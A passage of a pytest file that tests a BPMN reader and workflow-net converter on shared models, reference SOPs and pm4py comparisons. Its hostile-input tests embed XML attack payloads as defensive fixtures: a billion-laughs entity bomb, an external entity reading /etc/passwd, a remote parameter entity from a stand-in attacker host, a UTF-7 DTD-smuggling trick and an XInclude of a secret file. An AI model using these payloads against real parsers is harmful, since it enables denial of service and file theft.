"""The BPMN reader and workflow-net conversion on real files: shared corpus, hostile XML, our SOPs.

Every BPMN file under ../shared/data is either converted into a sound workflow net or refused
with a clear reason; the table below says which, so a change in behaviour shows up as a diff.
The reference SOPs are sound, map their tasks to the roles of the generator, and accept every
trace the sample generator plays out when it injects nothing (fitness 1.0 in pm4py's token
replay and alignments), where pm4py's own BPMN import of the same files does not.
"""

from __future__ import annotations

import gzip
import json
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from lxml import etree

from audit.errors import InputError
from audit.sample import process as P
from audit.sample.generator import SampleSpec, write_sample
from conformance.bpmn import BPMN_NS, BPMNDI_NS, read_bpmn
from conformance.inspect import inspect_model
from conformance.petri import bpmn_to_workflow_net, check_soundness, play_out, to_pm4py

# pm4py's alignments use numpy.matrix and a deprecated scipy solver; that is pm4py's business.
pytestmark = [pytest.mark.filterwarnings("ignore::PendingDeprecationWarning"),
              pytest.mark.filterwarnings("ignore:.*revised simplex.*:DeprecationWarning")]

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT.parent / "shared" / "data"
MODELS = ROOT / "models"
FIXTURES = ROOT / "tests" / "data" / "bpmn"
CHANNELS = ("ecommerce", "subscription", "offline")
DTD_MESSAGE = "XML BPMN files must not contain a DTD or entity declarations"

# file (relative to ../shared/data) -> "sound" | "refused: <substring of the first reason>"
# | "unsound: <its first problem>"
# (A collaboration whose pools message flows join is read as one process where that reads
# sound, test_bpmn_pools: A.4.1, and bpmn.io's A.4.0 and A.4.1, are read joined, 6 tasks
# where 4 before; B.1.0, C.1.0 and C.2.0, whose pools do not read as one (a terminate end
# event, a message sent in a loop, messages inside sub-processes), are read as the pool with
# the most tasks, as before, with a warning: test_collaborations_read_joined_or_one_pool.)
EXPECTED: dict[str, str] = {
    "bpmn-miwg/Reference/A.1.0.bpmn": "sound",
    "bpmn-miwg/Reference/A.2.0.bpmn": "sound",
    "bpmn-miwg/Reference/A.2.1.bpmn": "sound",
    "bpmn-miwg/Reference/A.3.0.bpmn": "sound",
    "bpmn-miwg/Reference/A.4.0.bpmn": "sound",
    "bpmn-miwg/Reference/A.4.1.bpmn": "sound",
    "bpmn-miwg/Reference/B.1.0.bpmn": "sound",
    # An inclusive join merging flows that come from two different start events.
    "bpmn-miwg/Reference/B.2.0.bpmn": "refused: this inclusive join does not close an inclusive "
                                      "split",
    "bpmn-miwg/Reference/C.1.0.bpmn": "sound",
    "bpmn-miwg/Reference/C.1.1.bpmn": "sound",
    "bpmn-miwg/Reference/C.2.0.bpmn": "sound",
    # 'Analyse customer request' has startQuantity="2" and completionQuantity="2" (one flow
    # in: BPMN's task would wait for a second token forever); read as 1 before, "sound".
    # (bpmn.io's export of it, below, drops both attributes.)
    "bpmn-miwg/Reference/C.3.0.bpmn": "refused: startQuantity=\"2\" (line 75): the activity "
                                      "waits for 2 tokens",
    "bpmn-miwg/Reference/C.4.0.bpmn": "sound",
    "bpmn-miwg/Reference/C.5.0.bpmn": "sound",
    "bpmn-miwg/Reference/C.6.0.bpmn": "refused: throwing compensation undoes completed",
    "bpmn-miwg/Reference/C.7.0.bpmn": "sound",
    "bpmn-miwg/Reference/C.8.0.bpmn": "sound",
    "bpmn-miwg/Reference/C.8.1.bpmn": "sound",
    # Calls C.9.2's ManualCheck, which calls C.9.1's document request as parallel multi-instance.
    "bpmn-miwg/Reference/C.9.0.bpmn": "refused: a parallel multi-instance sub-process with no "
                                      "fixed instance count",
    "bpmn-miwg/Reference/C.9.1.bpmn": "sound",
    "bpmn-miwg/Reference/C.9.2.bpmn": "refused: a parallel multi-instance sub-process with no "
                                      "fixed instance count",
    "bpmn-miwg/bpmn.io-18.6.1/A.1.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/A.2.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/A.2.1-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/A.3.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/A.4.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/A.4.1-export.bpmn": "sound",
    # bpmn.io (Camunda 8 target) drops calledElement: what the call activity runs is unknown.
    "bpmn-miwg/bpmn.io-18.6.1/B.1.0-export.bpmn": "refused: call activity 'Call Activity "
                                                  "Collapsed' names no called element",
    "bpmn-miwg/bpmn.io-18.6.1/B.2.0-export.bpmn": "refused: call activity 'Collapsed Call "
                                                  "Activity' names no called element",
    "bpmn-miwg/bpmn.io-18.6.1/C.1.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.1.1-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.2.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.3.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.4.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.5.0-export.bpmn": "refused: call activity 'Check for connected "
                                                  "clients' names no called element",
    "bpmn-miwg/bpmn.io-18.6.1/C.6.0-export.bpmn": "refused: throwing compensation undoes "
                                                  "completed",
    "bpmn-miwg/bpmn.io-18.6.1/C.7.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.8.0-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.8.1-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.9.0-export.bpmn": "refused: call activity 'Manual Check' names "
                                                  "no called element",
    "bpmn-miwg/bpmn.io-18.6.1/C.9.1-export.bpmn": "sound",
    "bpmn-miwg/bpmn.io-18.6.1/C.9.2-export.bpmn": "refused: call activity 'Document Request' "
                                                  "names no called element",
    # invoice.v1/v2 call 'ReviewInvoice', found in reviewInvoice.bpmn beside them.
    "camunda-invoice/invoice.v1.bpmn": "sound",
    "camunda-invoice/invoice.v2.bpmn": "sound",
    "camunda-invoice/reviewInvoice.bpmn": "sound",
    "pm4py-tests/more_models/SimpleParallel.bpmn": "sound",
    "pm4py-tests/more_models/Subprocess1.bpmn": "sound",
    "pm4py-tests/more_models/Subprocess3.bpmn": "sound",
    "pm4py-tests/more_models/ch7_CreditAppSimulation.bpmn": "sound",
    "pm4py-tests/more_models/ch7_InsuranceClaimsSimulationNormalSeason.bpmn": "sound",
    "pm4py-tests/more_models/simple_model.bpmn": "sound",
    "pm4py-tests/receipt.bpmn": "sound",
    "pm4py-tests/running-example.bpmn": "sound",
}


@pytest.fixture(autouse=True)
def _leave_libxml2_error_log_empty() -> Iterator[None]:
    """audit.ingest.xes reads libxml2's thread-wide error log; do not leave entries behind."""
    yield
    etree.clear_error_log()


def shared_bpmn_files() -> list[str]:
    assert DATA.is_dir(), f"shared test data folder missing: {DATA} (expected next to the repo)"
    files = sorted(p.relative_to(DATA).as_posix() for p in DATA.rglob("*.bpmn"))
    assert files, f"no .bpmn files under {DATA}"
    return files


def test_the_expected_table_lists_exactly_the_shared_files() -> None:
    files = shared_bpmn_files()
    assert sorted(EXPECTED) == files, (
        "new or missing shared BPMN files: "
        f"not in the table {sorted(set(files) - set(EXPECTED))}, "
        f"gone {sorted(set(EXPECTED) - set(files))}")


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_shared_bpmn_file_is_sound_or_refused_clearly(name: str) -> None:
    path = DATA / name
    assert path.is_file(), f"shared test data file missing: {path}"
    conversion = bpmn_to_workflow_net(path)
    expected = EXPECTED[name]
    if expected == "sound":
        assert not conversion.refused, [str(r) for r in conversion.refused]
        assert conversion.net is not None and conversion.soundness is not None
        assert conversion.soundness.verdict == "sound", conversion.soundness.problems
        assert conversion.net.labels, "a sound net of a real model has visible tasks"
        return
    if expected.startswith("unsound: "):
        assert not conversion.refused and conversion.soundness is not None
        assert conversion.soundness.verdict == "unsound"
        assert conversion.soundness.problems[0].startswith(expected.removeprefix("unsound: "))
        return
    assert expected.startswith("refused: ")
    assert conversion.net is None, "a refused model must not yield a (partial) net"
    assert conversion.refused, "refused without a reason"
    first = conversion.refused[0]
    assert expected.removeprefix("refused: ") in first.reason, str(first)
    for refusal in conversion.refused:
        # A clear message names the element and says why, in a sentence.
        assert refusal.element_id and refusal.element_type
        assert len(refusal.reason) > 25, str(refusal)


# file -> (read joined, process name, task labels, the start of the choice or None)
_TAKEN = "its pools joined by message flows do not read as one process ("
_NO_ORDER = _TAKEN + ("no message flow between them sets an order: each is information or "
                      "touches a pool without a process); so one pool is read")
COLLABORATIONS: dict[str, tuple[bool, str, list[str], str | None]] = {
    # (A.4.x: both message flows go into plain tasks, information that sets no order, so
    # the pools are not joined: the pool with the most tasks is read, as without them.)
    "bpmn-miwg/Reference/A.4.1.bpmn": (
        False, "Pool 2", [f"Task {k}" for k in range(3, 7)], _NO_ORDER),
    "bpmn-miwg/bpmn.io-18.6.1/A.4.0-export.bpmn": (
        False, "Process_0wqyt7t", [f"Task {k}" for k in range(3, 7)], _NO_ORDER),
    # (bpmn.io names both of its pools 'Pool 1'.)
    "bpmn-miwg/bpmn.io-18.6.1/A.4.1-export.bpmn": (
        False, "Pool 1", [f"Task {k}" for k in range(3, 7)], _NO_ORDER),
    "bpmn-miwg/Reference/B.1.0.bpmn": (
        False, "Pool", ["Abstract Task 4", "Abstract Task 6", "Abstract Task 8",
                        "Call Activity Calling a Global Task", "Collapsed Sub-Process",
                        "Service Task 7", "User Task 5"],
        _TAKEN + "_ae916437-d9aa-4e3d-a7c3-34998c410beb ('End Event Terminate', line 160): "
        "a terminate end event at the top of pool 'Pool'"),
    "bpmn-miwg/Reference/C.1.0.bpmn": (
        False, "BPMN MIWG Test Case C.1.0", ["Approve Invoice", "Archive Invoice",
                                             "Assign Approver", "Prepare Bank Transfer",
                                             "Rechnung klären"],
        _TAKEN + "sid-0518A412-1ED3-4CFD-A75C-69FF37EFFC16 (line 71): is sent by 'Rechnung "
        "klären', which lies on a cycle of its pool"),
    "bpmn-miwg/bpmn.io-18.6.1/C.1.0-export.bpmn": (
        False, "Process Engine - Invoice Receipt", ["Approve Invoice", "Archive Invoice",
                                                    "Assign Approver", "Prepare Bank Transfer",
                                                    "Rechnung kl\u00c3\u0192\u00c2\u00a4ren"],
        _TAKEN + "Flow_0413uwj (line 9): is sent by 'Rechnung kl"),
    "bpmn-miwg/Reference/C.2.0.bpmn": (
        False, "Customer", ["Add Item to Cart", "Browse Products on Amazon", "Pay Order",
                            "Receive items"],
        _TAKEN + "__789952b8-abba-4f3f-81cd-24cbb4d0d615: sends at 'Send Order', inside a "
        "sub-process: a message flow is converted only between nodes at a pool's top level "
        "(line 21)"),
    "bpmn-miwg/bpmn.io-18.6.1/C.2.0-export.bpmn": (
        False, "Customer", ["Add Item to Cart", "Browse Products on Amazon", "Pay Order",
                            "Receive Items"],
        _TAKEN + "Flow_0cu1f20 ('Send Credit Card Information'): sends at 'Pay Order', inside "
        "a sub-process"),
}


@pytest.mark.parametrize("name", sorted(COLLABORATIONS))
def test_collaborations_read_joined_or_one_pool(name: str) -> None:
    """The MIWG collaborations whose pools message flows join: read as one process where
    that is sound, else the pool with the most tasks, as before pools were joined, the choice
    saying why with the element and its line. A.4.x's message flows all go into plain tasks
    (information, no order): joined, each pool ran in every case in any order against the
    other, so the pool with the most tasks (4 of 6) is read, as before pools were joined.
    Before this, B.1.0 and C.2.0 were refused and C.1.0 was
    unsound (exit 2 in check)."""
    joined, process_name, labels, choice = COLLABORATIONS[name]
    conversion = bpmn_to_workflow_net(DATA / name)
    model = conversion.model
    assert conversion.soundness is not None and conversion.soundness.verdict == "sound"
    assert (model.joined, model.process_name) == (joined, process_name)
    assert sorted(model.task_labels()) == labels
    if choice is None:
        assert model.choice is None
    else:
        assert model.choice is not None and model.choice.startswith(choice), model.choice
        assert model.choice.endswith("the one with the most tasks"), model.choice


# --- hostile and unusable input -----------------------------------------------------------------

MINIMAL = (f'<definitions xmlns="{BPMN_NS}" id="d" targetNamespace="t"><process id="p">'
           '<startEvent id="s"/><task id="a" name="A"/><endEvent id="e"/>'
           '<sequenceFlow id="f1" sourceRef="s" targetRef="a"/>'
           '<sequenceFlow id="f2" sourceRef="a" targetRef="e"/></process></definitions>')

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!-- a comment before the DTD must not hide it -->
<!DOCTYPE definitions [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="{BPMN_NS}" id="d" targetNamespace="t"><process id="p">
<startEvent id="s"/><task id="a" name="&lol9;"/><endEvent id="e"/>
<sequenceFlow id="f1" sourceRef="s" targetRef="a"/>
<sequenceFlow id="f2" sourceRef="a" targetRef="e"/>
</process></definitions>
"""

EXTERNAL_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<definitions xmlns="{BPMN_NS}" id="d" targetNamespace="t"><process id="p">
<startEvent id="s"/><task id="a" name="&secret;"/><endEvent id="e"/>
<sequenceFlow id="f1" sourceRef="s" targetRef="a"/>
<sequenceFlow id="f2" sourceRef="a" targetRef="e"/>
</process></definitions>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<definitions/>
"""


@pytest.mark.parametrize("text", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_a_dtd_is_refused_before_parsing(tmp_path: Path, text: str) -> None:
    path = tmp_path / "hostile.bpmn"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError, match=DTD_MESSAGE):
        read_bpmn(path)


def test_a_dtd_in_utf16_or_gzip_is_refused_too(tmp_path: Path) -> None:
    utf16 = tmp_path / "utf16.bpmn"
    utf16.write_bytes(EXTERNAL_ENTITY.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
                      .encode("utf-16"))
    with pytest.raises(InputError, match=DTD_MESSAGE):
        read_bpmn(utf16)
    packed = tmp_path / "packed.bpmn"
    packed.write_bytes(gzip.compress(BILLION_LAUGHS.encode()))
    with pytest.raises(InputError, match=DTD_MESSAGE):
        read_bpmn(packed)


def test_a_dtd_hidden_by_a_utf7_declaration_is_refused(tmp_path: Path) -> None:
    """In UTF-7 "+AC0ALQA+-" reads as "-->" to libxml2: the DOCTYPE after it, inside what
    the prolog check reads as a comment, was parsed and its entity expanded into a task's
    name. The encoding is refused."""
    path = tmp_path / "utf7.bpmn"
    path.write_bytes((
        '<?xml version="1.0" encoding="UTF-7"?>\n'
        '<!-- x +AC0ALQA+- <!DOCTYPE definitions [<!ENTITY a "INJECTED">]><!-- -->\n'
        + MINIMAL.replace('name="A"', 'name="&a;"')).encode("ascii"))
    with pytest.raises(InputError, match="names encoding 'UTF-7'"):
        read_bpmn(path)


def test_an_undeclared_entity_is_malformed_xml_not_expanded(tmp_path: Path) -> None:
    path = tmp_path / "entity.bpmn"
    path.write_text(MINIMAL.replace('name="A"', 'name="&secret;"'), encoding="utf-8")
    with pytest.raises(InputError, match="malformed XML"):
        read_bpmn(path)


def test_xinclude_is_not_processed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret", encoding="utf-8")
    path = tmp_path / "xinclude.bpmn"
    path.write_text(MINIMAL.replace(
        '<task id="a" name="A"/>',
        '<task id="a" name="A"><documentation><xi:include '
        'xmlns:xi="http://www.w3.org/2001/XInclude" href="secret.txt" parse="text"/>'
        "</documentation></task>"), encoding="utf-8")
    model = read_bpmn(path)
    assert [t.name for t in model.tasks.values()] == ["A"]
    assert "top secret" not in repr(model)


@pytest.mark.parametrize(("content", "message"), [
    ("", "no root element"),
    ("not xml at all", "malformed XML"),
    ("<log><trace/></log>", "expected <definitions>"),
    ('<definitions xmlns="urn:other"><process id="p"/></definitions>', "not a BPMN 2.0 file"),
    (f'<definitions xmlns="{BPMN_NS}"><collaboration id="c"/></definitions>', "no <process>"),
    (f'<definitions xmlns="{BPMN_NS}"><process id="p"/></definitions>', "no process has any"),
    (f'<definitions xmlns="{BPMN_NS}"><process id="p">', "malformed XML"),
])
def test_unusable_files_raise_input_error(tmp_path: Path, content: str, message: str) -> None:
    path = tmp_path / "bad.bpmn"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message) as caught:
        read_bpmn(path)
    assert caught.value.file == str(path)


def nested_subprocesses(path: Path, depth: int) -> Path:
    """A process whose one task is `depth` sub-processes down (sp0 holds sp1, ...)."""
    n = depth - 1
    text = (f'<?xml version="1.0"?><definitions xmlns="{BPMN_NS}" id="d"><process id="p">'
            '<startEvent id="s"/><endEvent id="e"/><sequenceFlow id="f1" sourceRef="s" '
            'targetRef="sp0"/><sequenceFlow id="f2" sourceRef="sp0" targetRef="e"/>')
    for i in range(n):
        text += (f'<subProcess id="sp{i}"><startEvent id="ss{i}"/><endEvent id="se{i}"/>'
                 f'<sequenceFlow id="a{i}" sourceRef="ss{i}" targetRef="sp{i + 1}"/>'
                 f'<sequenceFlow id="b{i}" sourceRef="sp{i + 1}" targetRef="se{i}"/>')
    text += (f'<subProcess id="sp{n}"><task id="t" name="T"/></subProcess>'
             + "</subProcess>" * n + "</process></definitions>")
    path.write_text(text, encoding="utf-8")
    return path


def test_sub_processes_nested_50_deep_convert(tmp_path: Path) -> None:
    conversion = bpmn_to_workflow_net(nested_subprocesses(tmp_path / "deep.bpmn", 50))
    assert conversion.net is not None and not conversion.refused
    assert conversion.soundness is not None and conversion.soundness.verdict == "sound"
    assert play_out(conversion.net, max_length=3) == {("T",)}


@pytest.mark.parametrize("depth", [51, 201])
def test_sub_processes_nested_deeper_are_an_input_error(tmp_path: Path, depth: int) -> None:
    """libxml2 parses a few hundred levels, which exhausted Python's stack in the reader and
    the conversion (a RecursionError, shown as an internal error): now an input error at
    the first sub-process too deep."""
    path = nested_subprocesses(tmp_path / "deep.bpmn", depth)
    for read in (read_bpmn, bpmn_to_workflow_net):
        with pytest.raises(InputError, match="sub-processes nested more than 50 deep: "
                           "<subProcess> 'sp50' is at depth 51") as caught:
            read(path)
        assert caught.value.file == str(path) and caught.value.row == 1


def test_call_activities_nested_deeper_than_50_are_an_input_error(tmp_path: Path) -> None:
    """Each process calls the next: the called processes count as nesting too."""
    def process(i: int) -> str:
        inner = (f'<callActivity id="c{i}" calledElement="p{i + 1}"/>' if i < 60
                 else '<task id="t" name="T"/>')
        return f'<process id="p{i}"><startEvent id="s{i}"/>{inner}</process>'
    path = tmp_path / "calls.bpmn"
    path.write_text(f'<?xml version="1.0"?><definitions xmlns="{BPMN_NS}" id="d">'
                    + "".join(process(i) for i in range(61)) + "</definitions>",
                    encoding="utf-8")
    with pytest.raises(InputError, match=r"nested more than 50 deep: <callActivity> "
                       r"'c0/c1/.*/c50' is at depth 51"):
        read_bpmn(path, process="p0")


def test_a_missing_file_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot open file"):
        read_bpmn(tmp_path / "nowhere.bpmn")


# --- the reference SOPs ---------------------------------------------------------------------------

ROLES = {
    P.REQUEST: "customer-service", P.EVIDENCE: "customer-service",
    P.PRORATA: "customer-service", P.NOTIFY: "customer-service", P.CLOSE: "customer-service",
    P.APPROVE: "supervisor", P.REJECT: "supervisor",
    P.APPROVE_2: "finance",
    P.PAYOUT: "payments", P.PAYOUT_FAILED: "payments",
}


def sop(channel: str) -> Path:
    path = MODELS / f"{channel}.bpmn"
    assert path.is_file(), f"reference SOP missing: {path}"
    return path


def expected_variants(channel: str) -> set[tuple[str, ...]]:
    """The traces the generator's SOP allows, with at most one failed payout."""
    head = (P.REQUEST, P.EVIDENCE) + ((P.PRORATA,) if channel == "subscription" else ())
    tail = (P.NOTIFY, P.CLOSE)
    out = {(*head, P.REJECT, *tail)}
    for approvals in ((P.APPROVE,), (P.APPROVE, P.APPROVE_2)):
        for payout in ((P.PAYOUT,), (P.PAYOUT_FAILED, P.PAYOUT)):
            out.add(head + approvals + payout + tail)
    return out


@pytest.mark.parametrize("channel", CHANNELS)
def test_sop_is_sound_and_its_tasks_are_the_generator_labels(channel: str) -> None:
    conversion = bpmn_to_workflow_net(sop(channel))
    assert not conversion.refused, [str(r) for r in conversion.refused]
    assert conversion.net is not None and conversion.soundness is not None
    assert conversion.soundness.verdict == "sound", conversion.soundness.problems
    labels = set(conversion.net.labels)
    expected = set(ROLES) - (set() if channel == "subscription" else {P.PRORATA})
    assert labels == expected
    assert not labels & set(P.PURCHASE.values()), "purchase events are context, not the SOP"


@pytest.mark.parametrize("channel", CHANNELS)
def test_sop_lanes_map_tasks_to_the_generator_roles(channel: str) -> None:
    model = read_bpmn(sop(channel))
    assert {lane.role for lane in model.lanes.values()} == {
        "customer-service", "supervisor", "finance", "payments"}
    for task in model.tasks.values():
        lane = model.lanes[task.lanes[-1]]
        assert lane.role == ROLES[task.name], (task.name, lane.name)
    # Every role the generator gives the SOP's steps has its lane (the canonical `org:role`).
    assert set(ROLES.values()) <= {P.ROLE_AGENT, P.ROLE_SUPERVISOR, P.ROLE_FINANCE,
                                   P.ROLE_PAYMENTS}


@pytest.mark.parametrize("channel", CHANNELS)
def test_sop_has_an_sla_timer_a_subprocess_and_a_rejection_path(channel: str) -> None:
    model = read_bpmn(sop(channel))
    timers = [e for e in model.events.values()
              if e.position == "boundary" and e.trigger == "timer"]
    assert len(timers) == 1 and not timers[0].interrupting
    assert model.subprocesses[timers[0].attached_to or ""].kind == "sub-process"
    assert any(t.name == P.REJECT for t in model.tasks.values())
    thresholds = [g for g in model.gateways.values() if g.default_flow]
    assert thresholds, "the threshold decision has a default flow (within the threshold)"


@pytest.mark.parametrize("channel", CHANNELS)
def test_sop_has_diagram_interchange_for_every_element(channel: str) -> None:
    tree = etree.parse(str(sop(channel)))
    drawn = {s.get("bpmnElement") for s in tree.iter(f"{{{BPMNDI_NS}}}BPMNShape")}
    edges = {s.get("bpmnElement") for s in tree.iter(f"{{{BPMNDI_NS}}}BPMNEdge")}
    model = read_bpmn(sop(channel))
    nodes = {*model.tasks, *model.events, *model.gateways, *model.subprocesses}
    assert nodes <= drawn
    assert set(model.lanes) <= drawn
    assert {p.id for p in model.pools} <= drawn
    assert set(model.flows) <= edges
    for edge in tree.iter(f"{{{BPMNDI_NS}}}BPMNEdge"):
        assert len(edge.findall("{http://www.omg.org/spec/DD/20100524/DI}waypoint")) >= 2


@pytest.fixture(scope="module")
def clean_traces() -> dict[str, Counter[tuple[str, ...]]]:
    """The generator's clean cases per channel, projected on the SOP's task labels."""
    import tempfile

    out: dict[str, Counter[tuple[str, ...]]] = {}
    for channel in CHANNELS:
        with tempfile.TemporaryDirectory() as folder:
            paths = write_sample(SampleSpec(channel=channel, cases=200, seed=1,
                                            violation_rate=0.0), Path(folder))
            frame = pd.read_csv(paths["canonical"], dtype=str)
        labels = set(ROLES)
        frame = frame[frame["concept:name"].isin(labels)]
        out[channel] = Counter(
            tuple(group["concept:name"])
            for _, group in frame.groupby("case:concept:name", sort=False))
        assert sum(out[channel].values()) == 200
    return out


@pytest.mark.parametrize("channel", CHANNELS)
def test_sop_play_out_equals_the_generator_process(
        channel: str, clean_traces: dict[str, Counter[tuple[str, ...]]]) -> None:
    net = bpmn_to_workflow_net(sop(channel)).net
    assert net is not None
    language = play_out(net, max_length=12)
    bounded = {t for t in language if t.count(P.PAYOUT_FAILED) <= 1}
    assert bounded == expected_variants(channel)
    # The SOP allows a payout to fail more than once; the generator plays at most one failure.
    assert any(t.count(P.PAYOUT_FAILED) == 2 for t in language)
    assert set(clean_traces[channel]) <= language


def _event_log(traces: Counter[tuple[str, ...]]) -> Any:
    from pm4py.objects.log.obj import Event, EventLog, Trace

    log = EventLog()
    for trace, count in traces.items():
        for _ in range(count):
            log.append(Trace([Event({"concept:name": label}) for label in trace]))
    return log


@pytest.mark.parametrize("channel", CHANNELS)
def test_generator_clean_traces_replay_with_fitness_one(
        channel: str, clean_traces: dict[str, Counter[tuple[str, ...]]]) -> None:
    import pm4py

    net = bpmn_to_workflow_net(sop(channel)).net
    assert net is not None
    pn, initial, final = to_pm4py(net)
    log = _event_log(clean_traces[channel])
    replay = pm4py.fitness_token_based_replay(log, pn, initial, final)
    assert replay["log_fitness"] == 1.0
    assert replay["perc_fit_traces"] == 100.0
    aligned = pm4py.fitness_alignments(log, pn, initial, final)
    # pm4py's log-level alignment fitness charges silent steps a cost of 1 in 10,000, so it is a
    # hair below 1.0 for any net with silent transitions; per trace, every case fits exactly.
    assert aligned["percentage_of_fitting_traces"] == 100.0
    assert aligned["average_trace_fitness"] == 1.0


@pytest.mark.parametrize("channel", CHANNELS)
def test_pm4py_own_bpmn_conversion_does_worse_or_equal(
        channel: str, clean_traces: dict[str, Counter[tuple[str, ...]]]) -> None:
    """pm4py.read_bpmn + convert_to_petri_net on the same SOP, for comparison.

    Seen with pm4py 2.7.23: pm4py drops the boundary timer's semantics and does not flatten the
    sub-process correctly; its net (11 places, 13 transitions for e-commerce) is unsound by its
    own woflan, no clean case fits, token-replay fitness is 0.79 (e-commerce, offline) and 0.82
    (subscription), alignment fitness 0.62 and 0.71. Ours: sound, every case fits.
    """
    import pm4py

    log = _event_log(clean_traces[channel])
    theirs = pm4py.convert_to_petri_net(pm4py.read_bpmn(str(sop(channel))))
    their_replay = pm4py.fitness_token_based_replay(log, *theirs)
    net = bpmn_to_workflow_net(sop(channel)).net
    assert net is not None
    our_replay = pm4py.fitness_token_based_replay(log, *to_pm4py(net))
    assert their_replay["log_fitness"] <= our_replay["log_fitness"] == 1.0
    assert their_replay["perc_fit_traces"] <= our_replay["perc_fit_traces"] == 100.0


def test_the_issue_example_is_sound_and_fits_where_pm4py_does_not() -> None:
    """One lane, a sub-process and a timer intermediate event (the issue's new-user SOP).

    pm4py 2.7.23 turns it into an unsound net on which the SOP's own trace has token-replay
    fitness 0.6 and alignment fitness 0.67; ours is sound and the trace fits.
    """
    import pm4py

    path = FIXTURES / "one_lane_timer_subprocess.bpmn"
    conversion = bpmn_to_workflow_net(path)
    assert conversion.soundness is not None and conversion.soundness.verdict == "sound"
    assert conversion.net is not None
    trace = ("Receive refund request", "Collect evidence", "Approve refund", "Execute payout")
    assert play_out(conversion.net, max_length=6) == {trace}
    log = _event_log(Counter({trace: 1}))
    ours = pm4py.fitness_token_based_replay(log, *to_pm4py(conversion.net))
    theirs = pm4py.fitness_token_based_replay(
        log, *pm4py.convert_to_petri_net(pm4py.read_bpmn(str(path))))
    assert ours["log_fitness"] == 1.0
    assert theirs["log_fitness"] <= ours["log_fitness"]
    model = conversion.model
    assert {t.role for t in model.tasks.values()} == {"Customer service"}


# --- inspect and imports --------------------------------------------------------------------------


def test_inspect_reports_tasks_lanes_gateways_net_and_soundness() -> None:
    data = inspect_model(sop("subscription"))
    json.dumps(data)  # JSON-able as it is
    assert data["sound"] == "yes"
    assert data["refused"] == []
    assert data["net"]["places"] > 0 and data["net"]["transitions"] > 0
    lanes = {lane["name"]: lane["tasks"] for lane in data["lanes"]}
    assert lanes["Finance"] == [P.APPROVE_2]
    assert lanes["Payments"] == [P.PAYOUT, P.PAYOUT_FAILED]
    assert set(data["gateways"]) == {"exclusive"}
    assert {t["name"] for t in data["tasks"]} == set(ROLES)
    assert any(e["trigger"] == "timer" and e["interrupting"] is False for e in data["events"])


def test_inspect_of_a_refused_model_has_no_net_and_lists_reasons() -> None:
    data = inspect_model(DATA / "bpmn-miwg/bpmn.io-18.6.1/C.6.0-export.bpmn")
    json.dumps(data)
    assert data["net"] is None and data["sound"] is None
    assert data["refused"] and all(r["element_id"] and r["reason"] for r in data["refused"])
    assert any("compensation" in note for note in data["notes"])


def test_soundness_is_undecided_above_the_state_cap() -> None:
    net = bpmn_to_workflow_net(sop("ecommerce")).net
    assert net is not None
    verdict = check_soundness(net, max_states=3)
    assert verdict.verdict == "undecided" and verdict.answer == "undecided"
    assert "more than 3 reachable states" in verdict.problems[0]


def test_importing_conformance_does_not_import_pm4py() -> None:
    code = ("import sys, conformance, conformance.bpmn, conformance.petri, "
            "conformance.inspect; print('pm4py' in sys.modules)")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                            cwd=ROOT, check=True)
    assert result.stdout.strip() == "False"


def test_two_processes_of_one_id_are_refused_naming_both_lines(tmp_path: Path) -> None:
    """Two <process> elements of one id (a pool pasted in twice, a hostile model) were
    read as one of them, unsaid: which one a SOP, or `#id`, names is a guess. The error
    names the id and both lines."""
    path = tmp_path / "twice.bpmn"
